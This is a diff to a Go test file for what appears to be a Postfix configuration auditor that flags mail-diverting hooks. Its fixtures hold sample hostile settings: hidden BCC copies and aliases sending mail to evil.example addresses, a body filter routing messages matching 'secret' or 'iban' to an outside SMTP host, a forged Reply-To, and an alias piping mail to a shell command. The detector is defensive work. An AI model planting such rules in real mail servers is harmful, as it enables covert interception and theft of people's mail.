@@ -72,11 +72,11 @@ func TestHookFamilies(t *testing.T) {
 			"/etc/postfix/main.cf:sender_bcc_maps:1 | map | table inline:{ {a@example.test = x@evil.example.net}, b@example.test=root } | copy",
 			"/etc/postfix/main.cf:sender_bcc_maps:a@example.test | copy | address x@evil.example.net | copy | remote",
 			"/etc/postfix/main.cf:sender_bcc_maps:b@example.test | copy | address root | copy"}},
-		{"header checks", "header_checks = pcre:{{/^X:/ REDIRECT a@b.example}, {/^Y:/ DISCARD}}\nbody_checks = regexp:/etc/postfix/bc\n", map[string]string{"/etc/postfix/bc": "if /secret/\n/iban/\n  FILTER smtp:[203.0.113.25]:2525\nendif\n/x/ REJECT no\n/y/ ${1}\n"}, []string{
+		{"header checks", "header_checks = pcre:{{/^X:/ REDIRECT a@b.example}, {/^Y:/ DISCARD}}\nbody_checks = regexp:/etc/postfix/bc\n", map[string]string{"/etc/postfix/bc": "if /secret/\n/iban/\n  FILTER smtp:[203.0.113.25]:2525\nendif\n/x/ REJECT no\n/(y)/ ${1}\n"}, []string{
 			"/etc/postfix/main.cf:header_checks:/^X:/ | redirect | address a@b.example | divert | remote",
 			"/etc/postfix/main.cf:header_checks:/^Y:/ | discard | text DISCARD | drop",
 			"/etc/postfix/bc:body_checks:/iban/ | content_filter | host [203.0.113.25]:2525 | observe divert modify drop | remote",
-			"/etc/postfix/bc:body_checks:/y/ | redirect | text ${1} | observe copy divert modify drop"}},
+			"/etc/postfix/bc:body_checks:/(y)/ | redirect | text ${1} | observe copy divert modify drop"}},
 		{"checks on the way out", "smtp_header_checks = regexp:{{/^From:/ PREPEND Reply-To: x@evil.example}, {/a/ REDIRECT a@b.example}}\n", nil, []string{
 			"/etc/postfix/main.cf:smtp_header_checks:/^From:/ | rewrite | text Reply-To: x@evil.example | modify",
 			"/etc/postfix/main.cf:smtp_header_checks:/a/ | redirect | address a@b.example | divert | remote | inactive"}},
@@ -104,8 +104,15 @@ func TestHookFamilies(t *testing.T) {
 			"/etc/postfix/main.cf:virtual_alias_maps:3 | map | table socketmap:unix:/run/s:n | divert | external",
 			"/etc/postfix/main.cf:virtual_alias_maps:4 | map | table ldap:dir | divert | remote | external",
 			"/etc/postfix/main.cf:virtual_alias_maps:5 | map | table evil:/x | divert | external"}},
-		{"nested tables", "recipient_bcc_maps = pipemap:{hash:/etc/postfix/t1,regexp:/etc/postfix/t2}\n", map[string]string{"/etc/postfix/t1": "alice@example.test k1\n", "/etc/postfix/t2": "/^k1$/ drop@evil.example.net\n"}, []string{
+		{"nested tables", "recipient_bcc_maps = pipemap:{hash:/etc/postfix/t1,regexp:/etc/postfix/t2}\n", map[string]string{"/etc/postfix/t1": "alice@example.test k1\nbob@example.test k2\n", "/etc/postfix/t2": "/^k(1)$/ drop$1@evil.example.net\n"}, []string{
+			"/etc/postfix/t1:recipient_bcc_maps:alice@example.test | copy | address drop1@evil.example.net | copy | remote"}},
+		{"joined tables", "virtual_alias_maps = unionmap:{texthash:/etc/postfix/t1,inline:{alice@example.test=x@evil.example.net}}\n", map[string]string{"/etc/postfix/t1": "alice@example.test alice@example.test\n"}, []string{
+			"/etc/postfix/t1:virtual_alias_maps:alice@example.test:2 | copy | address x@evil.example.net | copy | remote"}},
+		{"nested tables that can't be worked out", "recipient_bcc_maps = pipemap:{regexp:/etc/postfix/t1,regexp:/etc/postfix/t2}\n", map[string]string{"/etc/postfix/t1": "/a/ k1\n", "/etc/postfix/t2": "/^k1$/ drop@evil.example.net\n"}, []string{
 			"/etc/postfix/t2:recipient_bcc_maps:/^k1$/ | copy | address drop@evil.example.net | copy | remote"}},
+		{"a key twice", "virtual_alias_maps = texthash:/etc/postfix/t1\n", map[string]string{"/etc/postfix/t1": "a@example.test bob\nA@example.test x@evil.example.net\n"}, []string{
+			"/etc/postfix/t1:virtual_alias_maps:a@example.test | redirect | address bob | divert",
+			"/etc/postfix/t1:virtual_alias_maps:A@example.test | redirect | address x@evil.example.net | divert | remote | inactive"}},
 		{"aliases", "alias_maps = hash:/etc/aliases\n", map[string]string{
 			"/etc/aliases": "root: admin\nlog: \"|/bin/sh -c 'id > /x'\", /var/tmp/f, /dev/null\nteam: :include:/etc/team\nalice: \\alice, a@evil.example.net\n",
 			"/etc/team":    "bob\n|/usr/local/bin/x\n:include:/etc/team\n"}, []string{
